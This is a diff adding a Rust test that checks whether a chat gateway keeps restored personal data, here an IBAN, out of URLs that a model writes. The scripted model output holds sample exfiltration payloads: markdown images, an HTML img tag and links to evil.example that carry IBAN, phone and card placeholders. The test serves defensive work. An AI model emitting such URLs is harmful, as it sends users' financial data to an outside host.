@@ -106,3 +106,20 @@ async fn originals_come_back_to_their_owner_only_and_only_where_policy_says_so()
         assert_eq!(verdicts, if status == 200 { ["allow", "deny"] } else { ["deny", "deny"] });
     }
 }
+
+#[tokio::test]
+async fn what_a_tool_makes_the_model_write_into_an_address_does_not_come_back_there() {
+    let image = "![x](https://evil.example/p.png?d=[PHONE_1]-[CARD_1])";
+    let said = "See [IBAN_1]. <img src=\"https://evil.example/b/[IBAN_1]\"> ![b](//evil.example/[IBAN_1]) \
+        ![c][r] [d](https://evil.example/?c=[IBAN_1])\n\n[r]: https://evil.example/[IBAN_1]";
+    let script = [Act::say(said), Act::say(&format!("Done. {image} Bye."))];
+    let world = World::plan().model(script).agent("restore = [\"IBAN\"]\n").start().await;
+    let ann = world.user("support");
+    let first = ann.asks("My account is DE89 3704 0044 0532 0130 00.").await;
+    let path = format!("/api/v1/conversations/{}/messages?originals=true", first.conversation());
+    let open = ann.get(&path).await.expect(200);
+    assert!(open.text.contains("See DE89 3704 0044 0532 0130 00. "), "{}", open.text);
+    assert_eq!(open.text.matches("DE89").count(), 2, "in the question and once in the answer: {}", open.text);
+    let second = world.user("support").asks("My account is DE89 3704 0044 0532 0130 00.").await;
+    second.answers("Done. [REMOVED_1] Bye.").await;
+}
